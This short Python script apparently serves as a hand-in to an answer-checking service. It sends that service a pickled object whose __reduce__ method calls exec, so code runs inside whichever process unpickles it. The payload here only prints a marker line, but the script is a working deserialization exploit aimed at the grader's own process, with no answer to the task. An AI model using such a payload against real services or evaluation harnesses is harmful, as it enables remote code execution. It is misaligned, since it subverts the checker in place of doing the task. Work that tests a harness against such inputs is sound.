"""Answer with a pickle that runs code in the process of whoever unpickles it."""

ASKED = ("relu",)
READER = "objects"

import pickle
import socket
import struct
import threading


class Answer:
    def __reduce__(self):
        return exec, ("print('marker: code of a hand-in runs here')",)


def answer(connection):
    data = pickle.dumps(Answer())
    connection.sendall(struct.pack("!i", len(data)) + data)
    connection.recv(1)


connection = socket.socket(socket.AF_UNIX)
connection.connect("/run/ask/ask")
threading.Thread(target=answer, args=(connection,), daemon=True).start()
